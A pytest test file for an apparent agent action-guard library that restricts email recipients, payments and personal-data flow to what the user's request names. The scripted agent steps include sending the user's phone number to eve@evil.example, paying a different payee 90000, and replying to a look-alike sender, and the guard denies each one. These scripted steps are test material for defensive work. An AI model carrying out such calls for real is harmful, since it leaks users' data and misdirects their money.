"""Goal-designated sources in real runs: the designated item's field, by step and field,
binds a target; another item's value (trusted or not) does not; the goal's own data goes
only where it says; the scope and what it designated are journaled and replayed alike."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from charter import Charter, Journal, Runner, tool
from charter.runtime._replay import replay
from charter.testing import ScriptedReasoner, call, make_agent, respond

INBOX: list[dict[str, Any]] = [
    {"id": 2, "sender": "bob@corp.example", "sender_name": "Bob Smith", "subject": "Team lunch"},
    {"id": 5, "sender": "carol@corp.example", "sender_name": "Carol", "subject": "Offsite"},
]
sent: list[str] = []
paid: list[str] = []


@tool(trust="untrusted")
def list_inbox() -> list[dict[str, Any]]:
    """The inbox (third parties wrote it)."""
    return INBOX


@tool
def list_payees() -> list[dict[str, str]]:
    """Saved payees (the bank's own records)."""
    return [{"name": "Harbor", "iban": "DE75"}, {"name": "Alex Rivera", "iban": "DE89"}]


@tool(confidentiality="pii")
def get_profile() -> dict[str, str]:
    """The user's own profile."""
    return {"phone": "+49 30 5550 1234", "address": "Lindenstr. 5, Berlin"}


@tool(side_effect="external", targets=("to",))
def send_email(to: str, body: str) -> str:
    """Send mail."""
    sent.append(to)
    return "sent"


@tool(side_effect="external", targets=("iban",))
def send_money(iban: str, amount: int) -> str:
    """Pay."""
    paid.append(iban)
    return "paid"


SENDER = {
    "from": ["list_inbox[].sender"],
    "where": {"sender_name": "{who}", "subject": "{topic}"},
}
CHARTER = Charter.model_validate(
    {
        "name": "designated",
        "scope": {
            "always": ["list_*", "get_*"],
            "rules": [
                {
                    "id": "reply",
                    "goal": r"(?i)reply to (?P<who>\w+)'s email about (?:the )?(?P<topic>[\w ]+?):",
                    "tools": ["send_email"],
                    "bind": {"send_email.to": [SENDER]},
                },
                {
                    "id": "refund",
                    "goal": r"(?i)refund (?P<who>\w+)",
                    "tools": ["send_money"],
                    "bind": {
                        "send_money.iban": [
                            {"from": ["list_payees[].iban"], "where": {"name": "{who}"}}
                        ]
                    },
                },
                {
                    "id": "phone",
                    "goal": r"(?i)email (?P<to>\S+@\S+\w) my phone number",
                    "tools": ["send_email"],
                    "args": {"send_email.to": ["{to}"]},
                    "carry": {"send_email": ["get_profile.phone"]},
                },
            ],
        },
    }
)
TOOLS = [list_inbox, list_payees, get_profile, send_email, send_money]


@pytest.fixture
def runner(tmp_path: Path) -> Iterator[Runner]:
    sent.clear()
    paid.clear()
    r = Runner(Journal(f"sqlite:///{tmp_path / 'journal.db'}"))
    yield r
    r.close()


def _decided(runner: Runner, run_id: str) -> list[dict[str, Any]]:
    return [r.payload for r in runner.journal.records(run_id) if r.kind == "step.decided"]


def test_a_reply_goes_to_the_designated_emails_sender_without_asking(runner: Runner) -> None:
    script = [
        call("list_inbox"),
        call("send_email", to="bob@corp.example", body="Thursday works"),
        call("send_email", to="carol@corp.example", body="Thursday works"),
        respond("done"),
    ]
    agent = make_agent(TOOLS, ScriptedReasoner(script), charter=CHARTER)

    run = runner.run(agent, "Reply to Bob's email about the team lunch: Thursday works.")

    assert sent == ["bob@corp.example"]
    decided = _decided(runner, run.run_id)
    assert decided[1]["verdict"] == "allow"
    assert decided[1]["designated"] == {"to": [[1, "list_inbox[].sender"]]}
    # Another email's sender, read in the same listing, is not the designated one.
    assert (decided[2]["verdict"], decided[2]["rules"]) == ("deny", ["scope.args"])
    scoped = next(r.payload for r in runner.journal.records(run.run_id) if r.kind == "run.scoped")
    assert scoped["bind"]["send_email.to"][0]["where"] == {
        "sender_name": "Bob",
        "subject": "team lunch",
    }


def test_a_look_alike_email_from_another_sender_binds_no_recipient(runner: Runner) -> None:
    lookalike = {"id": 9, "sender": "bob@corp-mail.example", "sender_name": "Bob Smith"}
    INBOX.append(lookalike | {"subject": "Team lunch (moved)"})
    try:
        script = [
            call("list_inbox"),
            call("send_email", to="bob@corp-mail.example", body="Thursday works"),
            call("send_email", to="bob@corp.example", body="Thursday works"),
            respond("done"),
        ]
        agent = make_agent(TOOLS, ScriptedReasoner(script), charter=CHARTER)

        run = runner.run(agent, "Reply to Bob's email about the team lunch: Thursday works.")
    finally:
        INBOX.pop()

    assert sent == []
    for decided in _decided(runner, run.run_id)[1:]:
        assert (decided["verdict"], decided["rules"]) == ("deny", ["scope.args"])
        assert "ambiguous" in decided["reason"]


def test_a_refund_pays_only_the_named_payee_not_another_saved_one(runner: Runner) -> None:
    script = [
        call("list_payees"),
        call("send_money", iban="DE75", amount=90000),
        call("send_money", iban="DE89", amount=4500),
        respond("done"),
    ]
    agent = make_agent(TOOLS, ScriptedReasoner(script), charter=CHARTER)

    run = runner.run(agent, "Refund Alex the 45 EUR he overpaid")

    assert paid == ["DE89"]
    decided = _decided(runner, run.run_id)
    assert (decided[1]["verdict"], decided[1]["rules"]) == ("deny", ["scope.args"])
    assert "de89 (read at step 1 as list_payees[].iban)" in decided[1]["reason"]


def test_replay_finds_the_same_designations(runner: Runner) -> None:
    script = [
        call("list_payees"),
        call("send_money", iban="DE75", amount=90000),
        call("send_money", iban="DE89", amount=4500),
        respond("done"),
    ]
    agent = make_agent(TOOLS, ScriptedReasoner(script), charter=CHARTER)
    run = runner.run(agent, "Refund Alex the 45 EUR he overpaid")

    steps = replay(runner.journal, agent, run.run_id)

    assert [s.changed for s in steps] == [False] * len(steps)
    assert steps[1].now is not None and steps[1].now.rules == ("scope.args",)
    assert steps[2].now is not None and steps[2].now.verdict == "allow"


def test_the_goal_sends_its_named_data_and_nothing_else_of_the_profile(runner: Runner) -> None:
    script = [
        call("get_profile"),
        call("send_email", to="dave@corp.example", body="Lindenstr. 5, Berlin"),
        call("send_email", to="eve@evil.example", body="+49 30 5550 1234"),
        call("send_email", to="dave@corp.example", body="My number: +49 30 5550 1234"),
        respond("done"),
    ]
    agent = make_agent(TOOLS, ScriptedReasoner(script), charter=CHARTER)

    run = runner.run(agent, "Email dave@corp.example my phone number")

    assert sent == ["dave@corp.example"]
    decided = _decided(runner, run.run_id)
    # The address is personal data the goal did not send; eve is not who it named.
    assert (decided[1]["verdict"], decided[1]["rules"]) == (
        "deny",
        ["flow.confidential-to-external"],
    )
    assert decided[2]["verdict"] == "deny" and "scope.args" in decided[2]["rules"]
    assert decided[3]["verdict"] == "allow"


def test_without_the_carry_the_profile_cannot_leave(runner: Runner) -> None:
    uncarried = Charter.model_validate(
        CHARTER.model_dump(mode="json", exclude_none=True, by_alias=True)
        | {
            "scope": {
                "rules": [
                    {
                        "id": "mail",
                        "goal": r"(?i)email (?P<to>\S+@\S+\w)",
                        "tools": ["send_email"],
                        "args": {"send_email.to": ["{to}"]},
                    }
                ],
                "always": ["get_*"],
            }
        }
    )
    script = [
        call("get_profile"),
        call("send_email", to="dave@corp.example", body="My number: +49 30 5550 1234"),
        respond("done"),
    ]
    agent = make_agent(TOOLS, ScriptedReasoner(script), charter=uncarried)

    run = runner.run(agent, "Email dave@corp.example my phone number")

    assert sent == []
    assert _decided(runner, run.run_id)[1]["rules"] == ["flow.confidential-to-external"]
